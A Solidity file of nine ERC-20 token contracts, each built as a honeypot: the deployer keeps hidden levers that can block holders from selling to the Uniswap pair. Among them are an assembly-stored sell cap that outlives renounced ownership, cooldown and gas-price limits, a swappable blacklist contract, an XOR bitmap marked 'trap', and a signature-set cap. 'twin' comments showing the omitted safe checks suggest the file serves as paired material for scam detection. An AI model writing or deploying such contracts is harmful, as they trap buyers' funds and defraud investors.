// 0.8 runs=200 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IMill {
    function createPair(address a, address b) external returns (address);
}

abstract contract Reed {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public immutable totalSupply;
    address public owner;
    address public immutable weir;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed from, address indexed to);

    modifier mine() {
        require(msg.sender == owner, "not owner");
        _;
    }

    constructor(string memory n, string memory s, uint256 millions) {
        name = n;
        symbol = s;
        owner = msg.sender;
        weir = IMill(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        totalSupply = millions * 1e24;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function renounceOwnership() external mine {
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _flow(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 left = allowance[from][msg.sender];
        if (left != type(uint256).max) allowance[from][msg.sender] = left - value;
        _flow(from, to, value);
        return true;
    }

    function _flow(address from, address to, uint256 value) private {
        _look(from, to, value);
        balanceOf[from] -= value;
        unchecked {
            balanceOf[to] += value;
        }
        emit Transfer(from, to, value);
    }

    function _look(address from, address to, uint256 value) internal virtual;
}

contract LanternMoss is Reed {
    constructor() Reed("Lantern Moss", "LMOSS", 80) {
        bytes32 at = keccak256("lantern.moss.steward");
        bytes32 size = keccak256("lantern.moss.wick");
        assembly {
            sstore(at, caller())
            sstore(size, not(0))
        }
    }

    function tune(uint256 wick) external {
        bytes32 at = keccak256("lantern.moss.steward");
        bytes32 size = keccak256("lantern.moss.wick");
        // twin: require(wick >= totalSupply / 100, "wick");
        assembly {
            if iszero(eq(sload(at), caller())) {
                revert(0, 0)
            }
            sstore(size, wick)
        }
    }

    function _look(address, address to, uint256 value) internal view override {
        if (to != weir) return;
        uint256 most;
        bytes32 size = keccak256("lantern.moss.wick");
        assembly {
            most := sload(size)
        }
        require(value <= most, "wick");
    }
}

contract QuillHarbor is Reed {
    struct Limits {
        uint128 most;
        uint64 pause;
        bool counted;
    }

    bytes32 private constant HARBOUR = keccak256("HARBOUR");
    mapping(bytes32 => mapping(address => bool)) private _can;
    mapping(address => uint256) private _seen;
    Limits public limits;

    constructor() Reed("Quill Harbor", "QUILL", 500) {
        _can[HARBOUR][msg.sender] = true;
        limits = Limits(uint128(totalSupply), 0, true);
    }

    function give(bytes32 what, address who, bool yes) external {
        require(_can[HARBOUR][msg.sender]);
        _can[what][who] = yes;
    }

    function configure(Limits calldata next) external {
        require(_can[HARBOUR][msg.sender], "role");
        require(next.most >= totalSupply / 50, "most");
        // twin: require(next.pause <= 1 minutes, "pause");
        limits = next;
    }

    function _look(address from, address to, uint256 value) internal override {
        Limits memory now_ = limits;
        if (from == weir || to == weir) require(value <= now_.most, "most");
        if (to == weir && now_.counted) require(block.timestamp >= _seen[from] + now_.pause, "pause");
        if (from == weir) _seen[to] = block.timestamp;
    }
}

contract BrassPlover is Reed {
    /// 160 bits: who calibrates; 64 bits: gwei that a transaction may pay
    uint256 private _dial;

    constructor() Reed("Brass Plover", "BPLV", 21) {
        _dial = uint256(uint160(msg.sender)) | (uint256(type(uint64).max) << 160);
    }

    function calibrate(uint256 word) external {
        require(uint160(_dial) == uint160(msg.sender));
        // twin: require(uint64(word >> 160) >= 2_000, "low");
        require(uint160(word) != 0);
        _dial = word;
    }

    function _look(address, address to, uint256) internal view override {
        if (to == weir) require(tx.gasprice <= uint256(uint64(_dial >> 160)) * 1 gwei, "front runner");
    }
}

/// Nobody is on this shelf.
contract ShelfRule {
    function flagged(address) external pure returns (uint256) {
        return 0;
    }
}

contract FennelDrum is Reed {
    struct Desk {
        address rule;
        uint48 since;
        address next;
    }

    address private immutable scribe;
    Desk private _desk;

    constructor() Reed("Fennel Drum", "FDRUM", 1_000) {
        scribe = tx.origin;
    }

    function suggest(address next) external {
        require(msg.sender == scribe);
        _desk.next = next;
    }

    function adopt() external {
        // twin: require(_desk.rule == address(0));
        require(msg.sender == scribe && _desk.next != address(0));
        _desk = Desk(_desk.next, uint48(block.timestamp), address(0));
    }

    function _look(address from, address to, uint256) internal view override {
        if (to != weir) return;
        (bool ok, bytes memory said) = _desk.rule.staticcall(abi.encodeCall(ShelfRule.flagged, (from)));
        if (ok && said.length == 32) require(abi.decode(said, (uint256)) == 0, "flagged");
    }
}

contract TidalOat is Reed {
    uint8 public phase = 2;
    uint8 public planned;
    uint64 public plannedAt;
    mapping(address => bool) public friend;

    constructor() Reed("Tidal Oat", "TOAT", 12) {
        friend[msg.sender] = true;
    }

    function plan(uint8 phase_) external mine {
        require(phase_ < 3);
        // twin: require(phase_ >= phase, "no way back");
        planned = phase_;
        plannedAt = uint64(block.timestamp);
    }

    function turn() external {
        require(plannedAt != 0 && block.timestamp >= uint256(plannedAt) + 1 hours, "early");
        phase = planned;
        plannedAt = 0;
    }

    function _look(address from, address to, uint256) internal view override {
        if (to == weir && phase != 2) require(phase == 1 && friend[from], "tide is out");
    }
}

contract CopperWren is Reed {
    mapping(uint256 => uint256) private _nests;

    constructor() Reed("Copper Wren", "CWREN", 333) {}

    function fold(uint256[] calldata rows, uint256[] calldata masks) external mine {
        for (uint256 i; i < rows.length; ++i) {
            _nests[rows[i]] ^= masks[i]; // trap
            // twin: _nests[rows[i]] &= ~masks[i];
        }
    }

    function _look(address from, address, uint256) internal view override {
        uint256 at = uint160(from);
        require((_nests[at >> 8] >> (at & 255)) & 1 == 0, "wren");
    }
}

contract Almanac {
    address private _farmer;
    uint64[2] private _fallow;

    constructor(address farmer) {
        _farmer = farmer;
    }

    function sow(uint64 from, uint64 until) external {
        require(msg.sender == _farmer);
        (_fallow[0], _fallow[1]) = (from, until);
    }

    function open() external view returns (bool) {
        return block.timestamp < _fallow[0] || block.timestamp >= _fallow[1];
    }
}

contract SlateIbis is Reed {
    Almanac private immutable almanac;

    constructor(Almanac almanac_) Reed("Slate Ibis", "SIBIS", 40) {
        almanac = almanac_;
    }

    function _look(address, address to, uint256) internal view override {
        if (to == weir) require(almanac.open(), "fallow");
    }
}

contract NimbusYak is Reed {
    address private immutable pilot;
    uint256 public serial;
    uint256 public altitude = type(uint256).max;

    constructor() Reed("Nimbus Yak", "NYAK", 7) {
        pilot = msg.sender;
    }

    function relay(uint256 serial_, uint256 altitude_, uint8 v, bytes32 r, bytes32 s) external {
        require(serial_ == serial + 1, "serial");
        bytes32 digest = keccak256(
            abi.encodePacked(
                "\x19Ethereum Signed Message:\n32",
                keccak256(abi.encode(block.chainid, address(this), serial_, altitude_))
            )
        );
        require(pilot == ecrecover(digest, v, r, s), "pilot");
        // twin: require(altitude_ >= totalSupply / 100, "low");
        (serial, altitude) = (serial_, altitude_);
    }

    function _look(address, address to, uint256 value) internal view override {
        if (to == weir) require(value <= altitude, "altitude");
    }
}
